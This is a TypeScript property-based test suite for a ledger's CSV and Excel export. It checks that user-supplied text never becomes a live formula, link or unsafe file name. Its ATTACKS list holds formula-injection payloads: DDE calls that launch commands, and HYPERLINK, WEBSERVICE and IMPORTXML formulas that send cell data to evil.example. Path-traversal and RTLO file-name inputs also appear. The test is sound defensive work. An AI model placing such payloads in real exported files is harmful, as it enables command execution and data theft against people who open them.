/** No text of the ledger is a formula in an exported file (D38), which independent readers read here. */
import { parse } from 'csv-parse/sync';
import { strFromU8, unzipSync } from 'fflate';
import fc from 'fast-check';
import { JSDOM } from 'jsdom';
import { exportFileName, exportReport } from '../../src/report/export/exportReport';
import type { ExportFormat } from '../../src/report/export/exportReport';
import type { ExportSource } from '../../src/report/export/exportSource';
import { createReportView } from '../../src/report/view/reportView';
import { reportOf, rowsOf } from '../report/fixtures';
import { meta, sourceOf, ZONE } from '../report/export/support';

/** What spreadsheets read as the beginning of a formula, including line feeds and full-width characters. */
const BEGINNING = /^[=+\-@\t\r\n＝＋－＠]/;
/** Texts that people write into a field to see whether they run. */
const ATTACKS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
  '=WEBSERVICE("https://evil.example/"&A1)',
  '=IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '＝1+1',
  '＠SUM(A1)',
  '";=1+1',
  '",=1+1,"',
  '"\r\n=1+1',
  "'=1+1",
  '=1+1;=1+1',
  "Smith;=cmd|' /C calc'!A0;x",
  'Smith; "@SUM(A1);x',
  'Smith\r\n-1+1\r\nx',
  '-1-1',
  '-$5.00',
  '--5',
  '+',
  '-',
  '=',
  '@',
  'DDE("cmd","/C calc","x")',
  '<c r="A1"><f>1+1</f></c>',
  ']]><f>1+1</f>',
  '&G&P',
] as const;
const SIGNS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', ' '] as const;
const anyText = fc.oneof(
  fc.constantFrom(...ATTACKS),
  fc.string({ unit: 'grapheme' }),
  fc
    .tuple(fc.constantFrom('', 'a;', 'a; "'), fc.constantFrom(...SIGNS), fc.string({ maxLength: 6 }))
    .map((parts) => parts.join('')),
);
const cents = fc.integer({ min: -99_999_999, max: 99_999_999 });

/** A report whose texts all came from outside: cells, groups, filters, title, agency and user. */
const anyHostile: fc.Arbitrary<ExportSource> = fc
  .record({
    rows: fc.array(fc.record({ name: anyText, memo: anyText, cents }), { minLength: 1, maxLength: 6 }),
    title: anyText,
    filter: fc.tuple(anyText, anyText),
    agency: anyText,
    user: anyText,
    group: anyText,
  })
  .map(({ rows, title, filter: [label, value], agency, user, group }) => {
    const data = rowsOf(
      ...rows.map(({ name, memo, cents: amount }) => ({ name, memo, amount: amount / 100 })),
    );
    const source = sourceOf(createReportView(reportOf(data), ZONE), {}, ['name', 'memo', 'amount']);
    return {
      ...source,
      meta: { ...meta, title, agency, user, filters: [{ label, value }] },
      groups: [{ label: group, count: rows.length, totals: source.totals }],
    };
  });

async function bytesOf(source: ExportSource, format: ExportFormat): Promise<Uint8Array> {
  return new Uint8Array(await (await exportReport({ ...source, format })).arrayBuffer());
}

function cellsOf(file: Uint8Array, delimiter: readonly string[] = [',']): string[] {
  const text = new TextDecoder().decode(file);
  return parse(text, { bom: true, record_delimiter: '\r\n', delimiter: [...delimiter] }).flat();
}
const csvCells = async (source: ExportSource, delimiter?: readonly string[]): Promise<string[]> =>
  cellsOf(await bytesOf(source, 'csv'), delimiter);

/** What becomes cells of their own where semicolons part cells and the quotes of a cell within a line do not count. */
const innerPieces = (cell: string): readonly string[] =>
  cell
    .split(/[;\r\n]/)
    .slice(1)
    .map((piece) => piece.replace(/^[\s"]+/, ''));

/** A text as CSV has it, with an apostrophe wherever a spreadsheet would see a formula begin. */
const defused = (text: string): string =>
  (BEGINNING.test(text) ? `'${text}` : text).replace(/([;\r\n][\s"]*)([=+\-@])/g, "$1'$2");

/** Whether a cell is a number to every spreadsheet and every parser of numbers. */
const isNumber = (cell: string): boolean =>
  /\d/.test(cell) && !Number.isNaN(Number(cell.replaceAll(',', '')));

describe('CSV', () => {
  it('has no cell that begins like a formula where semicolons part cells either', async () => {
    await fc.assert(
      fc.asyncProperty(anyHostile, async (source) => {
        const pieces = (await csvCells(source)).flatMap(innerPieces);
        expect(pieces.filter((piece) => BEGINNING.test(piece))).toEqual([]);
      }),
    );
  });

  it('has the same cells for programs that part them at semicolons too', async () => {
    await fc.assert(
      fc.asyncProperty(anyHostile, async (source) => {
        expect(await csvCells(source, [',', ';'])).toEqual(await csvCells(source));
      }),
    );
  });

  it('keeps amounts as numbers, including negative ones', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(cents, { minLength: 1, maxLength: 5 }), async (list) => {
        const rows = rowsOf(...list.map((one) => ({ amount: one / 100 })));
        const source = sourceOf(createReportView(reportOf(rows), ZONE), {}, ['amount']);
        const cells = (await csvCells(source)).map((cell) => Math.round(Number(cell) * 100));
        for (const one of list) expect(cells).toContain(one === 0 ? 0 : one);
      }),
    );
  });
});

interface Workbook {
  readonly xml: ReadonlyMap<string, Document>;
  readonly texts: readonly string[];
}

const { DOMParser } = new JSDOM('').window;

function workbookOf(file: Uint8Array): Workbook {
  const xml = new Map(
    Object.entries(unzipSync(file)).map(([path, bytes]) => {
      const document = new DOMParser().parseFromString(strFromU8(bytes), 'application/xml');
      if (document.querySelector('parsererror')) throw new Error(`${path} is not XML`);
      return [path, document];
    }),
  );
  const strings = xml.get('xl/sharedStrings.xml')?.querySelectorAll('si > t') ?? [];
  return { xml, texts: [...strings].map(({ textContent }) => textContent) };
}
const workbook = async (source: ExportSource): Promise<Workbook> => workbookOf(await bytesOf(source, 'xlsx'));

const PARTS = [
  '[Content_Types].xml',
  '_rels/.rels',
  'docProps/core.xml',
  'xl/_rels/workbook.xml.rels',
  'xl/sharedStrings.xml',
  'xl/styles.xml',
  'xl/workbook.xml',
  'xl/worksheets/sheet1.xml',
  'xl/worksheets/sheet2.xml',
];
/** Elements by which a workbook computes, fetches, links or shows what is not in its cells. */
const LIVE =
  'f, hyperlink, oleObject, externalReference, ddeLink, connection, drawing, legacyDrawing, picture, [TargetMode]';

interface Reader {
  /** What of a file computes, fetches or links in a spreadsheet. */
  readonly running: (file: Uint8Array) => readonly string[];
  /** All texts of its cells. */
  readonly texts: (file: Uint8Array) => readonly string[];
  /** A text of the ledger as such a cell has it. */
  readonly written: (text: string) => string;
}

/** How each format is read, other than by our own code; a new one does not compile without. */
const READERS: Readonly<Record<ExportFormat, Reader>> = {
  csv: {
    running: (file) => cellsOf(file).filter((cell) => BEGINNING.test(cell) && !isNumber(cell)),
    texts: cellsOf,
    written: defused,
  },
  xlsx: {
    running: (file) =>
      [...workbookOf(file).xml.values()].flatMap((document) =>
        [...document.querySelectorAll(LIVE)].map(({ outerHTML }) => outerHTML),
      ),
    texts: (file) => workbookOf(file).texts.map((text) => text.replace(/_x000D_/g, '\r')),
    written: (text) => text,
  },
};
const FORMATS = Object.keys(READERS) as readonly ExportFormat[];

describe.each(FORMATS)('any text of the ledger in %s', (format) => {
  const { running, texts, written } = READERS[format];

  it('is no formula', async () => {
    await fc.assert(
      fc.asyncProperty(anyHostile, async (source) => {
        expect(running(await bytesOf(source, format))).toEqual([]);
      }),
    );
  });

  it.each(ATTACKS)('can be read: %j', async (name) => {
    const source = sourceOf(createReportView(reportOf(rowsOf({ name })), ZONE), {}, ['name', 'amount']);
    expect(texts(await bytesOf(source, format))).toContain(written(name));
  });
});

describe('Excel', () => {
  it('holds texts as texts and amounts as numbers, and nothing besides', async () => {
    await fc.assert(
      fc.asyncProperty(anyHostile, async (source) => {
        const { xml } = await workbook(source);
        expect([...xml.keys()].sort()).toEqual(PARTS);
        const cells = [...xml.values()].flatMap((document) => [...document.querySelectorAll('sheetData c')]);
        expect(cells.length).toBeGreaterThan(0);
        for (const cell of cells) {
          const value = cell.querySelector('v')?.textContent ?? '';
          const [type, style] = [cell.getAttribute('t'), Number(cell.getAttribute('s'))];
          const format = xml
            .get('xl/styles.xml')
            ?.querySelectorAll('cellXfs > xf')
            [style]?.getAttribute('numFmtId');
          expect(['s', null]).toContain(type);
          // A text is its number among the texts, formatted as Text so that editing the cell keeps it one.
          if (type === 's')
            expect([/^\d+$/.test(value), ['49', '0']]).toEqual([true, expect.arrayContaining([format])]);
          else expect(Number.isFinite(Number(value)) && value !== '').toBe(true);
        }
        const sums = source.totals['amount'] ?? 0;
        const numbers = cells.filter((cell) => cell.getAttribute('t') === null);
        expect(numbers.map((cell) => Math.round(Number(cell.textContent) * 100) + 0)).toContain(sums);
      }),
      { numRuns: 40 },
    );
  });

  it('has no field codes from the title in its header; Excel’s begin with a single &', async () => {
    await fc.assert(
      fc.asyncProperty(anyHostile, async (source) => {
        const { xml } = await workbook(source);
        const header = xml.get('xl/worksheets/sheet1.xml')?.querySelector('oddHeader')?.textContent ?? '';
        const codes = header.replaceAll('&&', '').match(/&./gsu) ?? [];
        expect(codes).toEqual(['&L', '&R']);
      }),
      { numRuns: 20 },
    );
  });
});

it('names a file without a folder or another ending, for any title', () => {
  fc.assert(
    fc.property(
      fc.oneof(anyText, fc.constantFrom('../../x', 'a.exe\u202efdp', 'CON', '.htaccess')),
      (title) => {
        for (const format of FORMATS) {
          const name = exportFileName({ ...meta, title }, format);
          expect(name).toMatch(/^[^\\/:*?"<>|\p{C}.][^\\/:*?"<>|\p{C}]* \d{4}-\d\d-\d\d \d{4}\.[a-z]+$/u);
          expect(name.endsWith(`.${format}`)).toBe(true);
        }
      },
    ),
  );
});
